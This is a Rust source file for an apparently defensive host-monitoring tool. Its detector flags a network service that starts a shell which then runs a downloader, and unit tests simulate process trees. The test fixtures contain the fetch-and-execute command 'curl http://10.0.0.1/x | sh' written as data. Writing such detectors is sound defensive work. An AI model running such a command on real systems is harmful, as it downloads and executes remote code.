//! B1: a service starts a shell that downloads.

use crate::{
    detect::{Declaration, DetectionContext, Finding, SignalInfo, Stateless},
    model::{EventType, ProcessKey, SignalClass},
    process::{Role, Taint},
};

/// Maximum number of ancestors of the downloader to inspect. Shells and wrappers such as `timeout` stand between the
/// service and the downloader.
const MAX_ANCESTORS: usize = 8;

/// The signal.
pub const SERVICE_DOWNLOADER: SignalInfo = SignalInfo {
    id: "B1",
    class: SignalClass::Behavior,
    weight: 35,
    full_weight: 35,
    name: "Service started a shell that downloads",
    description: "A network service started a shell, and the shell a program that fetches files: what an exploited service does.",
    catches: "The break-in itself, before any miner is there.",
    techniques: &["T1190", "T1059.004", "T1105"],
    ..SignalInfo::NONE
};

/// The declaration of the detector.
pub(in crate::detect) static DETECTOR: Declaration = Declaration {
    signals: &[SERVICE_DOWNLOADER],
    wants: &[EventType::Exec],
    evictions: None,
    create: |_| Box::new(Stateless(inspect)),
};

/// Checks whether a started downloader has a shell among its ancestors, and a service above the shell.
fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
    if context.process.role != Role::Downloader {
        return None;
    }
    let mut shell: Option<ProcessKey> = None;
    for ancestor in context.table.ancestry(context.key()).skip(1).take(MAX_ANCESTORS) {
        match ancestor.role {
            Role::Shell => shell = Some(ancestor.key()),
            Role::Interpreter | Role::Downloader | Role::Other => {}
            Role::Service => {
                shell?;
                let detail = format!(
                    "service '{}' (pid {}) started a shell that ran '{}'",
                    ancestor.view.name,
                    ancestor.key().pid,
                    context.process.view.name
                );
                let finding = Finding::new(SERVICE_DOWNLOADER, context, detail)
                    .tainting(Taint::FetchesForService)
                    .value("service", &ancestor.view.executable.path)
                    .value("downloader", &context.process.view.executable.path);
                return Some(finding);
            }
            Role::Kernel
            | Role::Init
            | Role::LoginService
            | Role::Scheduler
            | Role::ContainerRuntime
            | Role::JobRunner
            | Role::LoginShell
            | Role::PackageManager
            | Role::TextViewer => return None,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::testing::{Host, findings};

    /// Starts each program as the child of the one before and returns the findings. The last program downloads.
    fn lineage(programs: &[(&str, &[&str])]) -> Vec<(&'static str, u8)> {
        let mut host = Host::new();
        let mut last = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        for (path, arguments) in programs {
            last = host.spawn(last, path, arguments);
        }
        findings(&host)
    }

    #[test]
    fn services_whose_shells_download_are_found() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
        let cases: [&[(&str, &[&str])]; 4] = [
            &[("/usr/bin/redis-server", &["redis-server"]), shell, curl],
            &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/bash", &["bash", "-i"]), curl],
            &[
                ("/usr/bin/java", &["java", "-jar", "app.jar"]),
                shell,
                ("/usr/bin/timeout", &["timeout"]),
                curl,
            ],
            &[("/usr/bin/node", &["node", "server.js"]), shell, ("/usr/bin/wget", &["wget", "x"])],
        ];
        for case in cases {
            assert_eq!(lineage(case), [("B1", 35)], "{case:?}");
        }
    }

    #[test]
    fn other_downloads_are_not_found() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
        let cases: [&[(&str, &[&str])]; 6] = [
            &[("/usr/sbin/cron", &["cron"]), shell, curl],
            &[("/usr/sbin/sshd", &["sshd"]), ("/usr/bin/bash", &["-bash"]), curl],
            &[("/usr/bin/node", &["node", "/usr/bin/npm", "install"]), shell, curl],
            &[("/usr/bin/java", &["java", "-jar", "jenkins.war"]), shell, curl],
            &[("/usr/sbin/nginx", &["nginx"]), curl],
            &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/convert", &["convert", "a", "b"])],
        ];
        for case in cases {
            assert!(lineage(case).is_empty(), "{case:?}");
        }
    }
}
